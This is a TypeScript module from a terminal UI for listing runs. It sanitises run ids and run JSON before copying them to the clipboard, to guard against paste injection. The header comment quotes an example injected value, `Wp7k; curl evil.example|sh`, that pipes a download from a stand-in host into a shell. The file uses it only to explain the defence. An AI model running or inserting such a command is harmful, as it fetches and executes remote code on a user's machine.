// What `y` and `Y` put on the clipboard, where it will be pasted into a shell, a URL or a
// ticket. Server text is sanitised for the screen, but a newline a terminal shows folded
// runs a command when pasted: `Wp7k; curl evil.example|sh\n`. So a run id is copied only
// when it is a plain identifier, and JSON goes on one line with every character a shell
// or a terminal would act on escaped, still valid JSON.
import {toWireDetail, toWireRun} from '../api/to-wire.js';
import type {Run, RunDetail} from '../domain/run.js';
import {MAX_CLIPBOARD_BASE64} from '../terminal/codes.js';
import {emit, say} from './effects.js';
import {shownRuns} from './matches.js';
import type {State} from './state.js';

/** Longest run id `y` copies; TableFlow's are 16 characters. */
export const MAX_COPIED_ID = 64;

const PLAIN_ID = /^[A-Za-z0-9_-]+$/;
const REFUSED = 'run id not copied: ';

// OSC 52 carries base64: past the terminal's limit the copy would be cut or dropped.
const tooLarge = (text: string): boolean =>
  Math.ceil(Buffer.byteLength(text, 'utf8') / 3) * 4 > MAX_CLIPBOARD_BASE64;

/** Why `id` is not copied, or null when it is a plain identifier. */
export function idRefusal(id: string): string | null {
  if (id.length > MAX_COPIED_ID) return `${REFUSED}longer than ${MAX_COPIED_ID} characters`;
  if (!PLAIN_ID.test(id)) return `${REFUSED}it has characters other than letters, digits, - and _`;
  return null;
}

// Inside a JSON string: whitespace but the space, controls, format and bidi characters,
// private and unassigned code points, and what a shell expands between double quotes
// ($ ` !). None can occur outside strings in JSON.stringify's compact output.
const ACTIVE = /[^\S ]|[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Zl}\p{Zp}$`!]/gu;

function escaped(char: string): string {
  let out = '';
  // A code point past U+FFFF is escaped as its two UTF-16 halves, as JSON requires.
  for (let i = 0; i < char.length; i++)
    out += `\\u${char.charCodeAt(i).toString(16).padStart(4, '0')}`;
  return out;
}

/** `value` as JSON on one line, with no character a shell or terminal acts on left raw. */
export function clipboardJson(value: unknown): string {
  return JSON.stringify(value).replace(ACTIVE, escaped);
}

/** The run as `Y` copies it: the fetched detail when there is one, else the listed run. */
export function runJson(run: Run, detail: RunDetail | null): string {
  return clipboardJson(detail === null ? toWireRun(run) : toWireDetail(detail));
}

// `y` with runs marked: their ids, space-separated, in the order marked. An id that is not
// a plain identifier is left out, and the message says how many and why.
function copyMarked(state: State): State {
  const ids = [...state.marked];
  const plain = ids.filter((id) => idRefusal(id) === null);
  const refused = ids.find((id) => idRefusal(id) !== null);
  const why = refused === undefined ? '' : (idRefusal(refused) ?? '').replace(REFUSED, '');
  if (plain.length === 0) return say(state, `marked run ids not copied: ${why}`, 'warning');
  const text = plain.join(' ');
  if (tooLarge(text))
    return say(
      state,
      `${ids.length} marked run ids are too many to copy through the terminal`,
      'warning',
    );
  const copied = `copied ${plain.length} marked run ${plain.length === 1 ? 'id' : 'ids'}`;
  const left = ids.length - plain.length;
  if (left === 0) return say(emit(state, {kind: 'copy', text}), copied);
  return say(emit(state, {kind: 'copy', text}), `${copied}; ${left} left out: ${why}`, 'warning');
}

/**
 * `y` (the id, or every marked id in the list) or `Y` (the run as JSON): queued for the
 * clipboard, or refused with a reason.
 */
export function copy(state: State, what: 'id' | 'json'): State {
  const detail = state.detail;
  if (what === 'id' && detail === null && state.marked.size > 0) return copyMarked(state);
  const run = detail?.row ?? shownRuns(state)[state.cursor];
  if (run === undefined) return say(state, 'nothing to copy', 'warning');
  const refusal = what === 'id' ? idRefusal(run.id) : null;
  if (refusal !== null) return say(state, refusal, 'warning');
  const loaded = detail?.id === run.id ? detail.run : null;
  const text = what === 'id' ? run.id : runJson(run, loaded);
  if (tooLarge(text))
    return say(state, `run ${run.id} is too large to copy through the terminal`, 'warning');
  const label = what === 'id' ? `copied run id ${run.id}` : `copied run ${run.id} as JSON`;
  return say(emit(state, {kind: 'copy', text}), label);
}
